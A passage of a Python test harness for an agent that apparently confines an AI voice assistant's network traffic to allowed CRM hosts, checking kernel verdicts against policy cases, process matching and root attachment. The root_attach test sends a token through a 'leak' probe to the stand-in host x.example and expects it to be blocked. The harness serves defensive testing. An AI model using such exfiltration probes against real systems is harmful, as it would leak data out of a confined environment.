        bad.append("bpftool: " + m.stdout)
    refused("another version's pins", base + ["--cgroup", w.cgroup], "another version")
    os.unlink(w.pins + "/config")
    os.rmdir(w.pins)
    return bad


def policy_cases_in_kernel(w):
    """Every case of the shipped policy, asked and dialled inside a session: the kernel's verdict is the evaluator's."""
    p = json.load(open(W.ROOT + "/policies/salesforce-voice-assistant.json"))
    for k in ("crmfence", "name", "mode"):
        p.pop(k)
    p["resolvers"] = [DNS]
    w.start(**p)
    cases, want = [], []
    for line in open(W.ROOT + "/policies/salesforce-voice-assistant.cases"):
        f = line.split()
        if len(f) != 7 or f[0].startswith("#"):
            continue
        host = re.sub(r":(\d{1,4}|[1-5]\d{4})$", "", f[1]) if f[1].count(":") == 1 else f[1]
        host = host[:-1] if host.endswith(".") and not host.endswith("..") else host
        labels = [x.encode() for x in host.split(".")]
        if f[6] == "address":
            cases.append(["connect", host, int(f[2])])
        elif all(0 < len(x) < 64 for x in labels) and sum(map(len, labels)) < 250:
            cases.append(["dns", host, 0])
        else:
            continue
        want.append("EPERM" if f[6] == "address" or f[5] in ("dns-name", "dns-form") else "sent")
    with open(w.dir + "/cases.json", "w") as f:
        json.dump(cases, f)
    code, out = w.run("/usr/bin/python3", "-c", """
import errno, json, socket, struct
for how, host, port in json.load(open(%r)):
    try:
        if how == "connect":
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
            s.settimeout(1)
            s.connect((host, port))
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            q = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0)
            for x in host.split("."):
                q += bytes([len(x.encode())]) + x.encode()
            s.sendto(q + bytes([0, 0, 1, 0, 1]), (%r, 53))
        print("sent")
    except OSError as e:
        print(errno.errorcode.get(e.errno, type(e).__name__))
""" % (w.dir + "/cases.json", DNS), timeout=60)
    got = out.split()
    w.stop()
    bad = ["%s: kernel %s, evaluator %s" % (c, g, x) for c, g, x in zip(cases, got, want) if g != x]
    return bad + ([] if len(got) == len(want) > 180 else ["%d answers for %d cases: %s" % (len(got), len(want), out[-300:])])


def match_other_keys(w):
    """By unit, by uid, by executable with its hash: confined. Another build at that path: confined at first, then cleared."""
    connector(w, w.dir + "/hashed")
    connector(w, w.dir + "/plain")
    sha = W.sh("sha256sum", w.dir + "/hashed").stdout.split()[0]
    w.start(tools=[{"name": "voice-assistant", "allow": ["crm.own"], "match": [
        {"exe": w.dir + "/hashed", "sha256": sha}, {"unit": "assistant.service"}, {"uid": 4242}, {"cgroup": "/%s/deep" % w.id}]}])
    bad = []
    for d in ("assistant.service", "deep", "other", "other/deep"):
        os.mkdir(w.cgroup + "/" + d)

    def refused(name, want, tok, *cmd, **kw):
        code, out = w.run(*cmd, confined=False, **kw)
        if (code == 1 and "not permitted" in out) != want or bool(w.arrived(tok)) == want:
            bad.append("%s: %s %r, arrived %s" % (name, code, out, w.arrived(tok)))

    toks = [token() for _ in range(7)]
    refused("exe and its hash", True, toks[0], w.dir + "/hashed", AI, toks[0])
    refused("unit", True, toks[1], w.dir + "/plain", AI, toks[1], scope="assistant.service")
    refused("uid", True, toks[2], w.dir + "/plain", AI, toks[2], uid=4242)
    refused("nobody's", False, toks[3], w.dir + "/plain", AI, toks[3])
    refused("cgroup path", True, toks[4], w.dir + "/plain", AI, toks[4], scope="deep")
    refused("cgroup of that name elsewhere", False, toks[5], "sh", "-c", "sleep 0.5; exec %s/plain %s %s" % (w.dir, AI, toks[5]), scope="other/deep")
    connector(w, w.dir + "/hashed", ["-O2"])
    refused("another build at the path", False, toks[6], w.dir + "/hashed", AI, toks[6], "wait")
    if "refuted" not in [r["change"] for r in w.rows("session")]:
        time.sleep(1.5)
        if "refuted" not in [r["change"] for r in w.rows("session")]:
            bad.append("no row says that a match was refuted")
    w.stop()
    return bad


def root_attach(w):
    """Attached at the root of the machine, under a watchdog that takes everything out again: others go on, a session is confined."""
    watchdog = subprocess.Popen(["sh", "-c", "sleep 25; rm -rf " + w.pins])
    try:
        out = open(w.dir + "/agent.log", "a")
        w.db = w.dir + "/root.db"
        w.agent = subprocess.Popen([W.BUILD + "/crmfenced", "--policy", w.policy(), "--db", w.db, "--control", w.control, "--pin-dir", w.pins],
                                   stdout=out, stderr=out, stdin=subprocess.DEVNULL)
        w.wait(lambda: os.path.exists(w.control), "crmfenced at the root")
        tok, twin = token(), token()
        _, out = w.run(*LEAK, "at", AI, "x.example", "whole", tok)
        w.run(*LEAK, "at", AI, "x.example", "whole", twin, confined=False)
        bad = [] if out.startswith("EPERM") and not w.arrived(tok) else ["confined: %r" % out]
        bad += [] if w.arrived(twin) else ["the twin was harmed"]
        a, b = socket.socketpair()
        s = socket.create_server(("127.0.0.1", 0))
        socket.create_connection(s.getsockname(), 2).close()
        a.close()
        b.close()
        s.close()
        own = [r for r in w.rows("flow") if r["pid"] == os.getpid()]
        bad += [] if own else ["a flow outside any test cgroup was not recorded"]
        w.stop()
        return bad + (["the slice was left behind"] if os.path.isdir(W.cgroup2() + "/crmfence.slice") else [])
    finally:
        watchdog.kill()
        watchdog.wait()


ALONE = [policy_cases_in_kernel, match_other_keys, root_attach, kill_keeps, refusals] + alerts.ALONE + closed.ALONE + dns.ALONE + hostile.ALONE + launch.ALONE + faults.ALONE + packets.ALONE + recognise.ALONE + renewed.ALONE + apart.ALONE + tunnels.ALONE + root.ALONE + log.ALONE
SECOND = sight.ALONE + crm.ALONE + browsers.ALONE + scanned.ALONE


def run_case(w, f, alone=False):
    name = f.__name__.replace("_", "-")
    if not wanted(name):
        return
    if name.startswith("sight-") and [int(x) for x in re.findall(r"\d+", os.uname().release)[:2]] < [6, 6]:
        results["skipped"] += 1
        print("skip %s: TLS is seen from Linux 6.6 on; that the agent says so before is tests/vm/init's" % name, flush=True)
        return
    began = time.time()
    try:
        try:
            found = f(w)
        finally:
            if alone:
                w.stop()  # of a case that broke, so that the next finds no agent
    except Exception as e:  # a case that breaks has failed; the others still run
        found = ["%s: %s" % (type(e).__name__, e)]
    for part, problems in (found if isinstance(found, dict) else {name: found}).items():
        if isinstance(problems, str):
            results["skipped"] += 1
            print("skip %s: %s" % (part, problems), flush=True)
        else:
            result(part, problems, time.time() - began)


def main():
    part = os.environ.get("PART")
    first, alone = part != "2", {"1": ALONE, "2": SECOND}.get(part, ALONE + SECOND)
    names = [c[0] for c in WAYS] + [f.__name__.replace("_", "-") for f in CASES + ALONE + SECOND]
    for pattern in only:
        if not fnmatch.filter(names, pattern):
            result(pattern, ["there is no such case"])
    w = World()
    try:
        LEAK[1] = shutil.copy(HERE + "/leak.py", w.dir)
        w.leak = LEAK
        if first and any(wanted(c[0]) for c in WAYS):
            ways(w)
        if first and any(wanted(f.__name__.replace("_", "-")) for f in CASES):
            clear(w)
            w.start()
            for f in CASES:
                run_case(w, f)
            if w.agent.poll() is not None:
                result("the agent lives", ["it ended: " + open(w.dir + "/agent.log").read()[-500:]])
            w.stop()
        for f in alone:
            run_case(w, f, alone=True)
    finally:
        w.close()
    print("%(passed)d passed, %(failed)d failed, %(skipped)d skipped" % results)
    sys.exit(1 if results["failed"] else 0)


main()
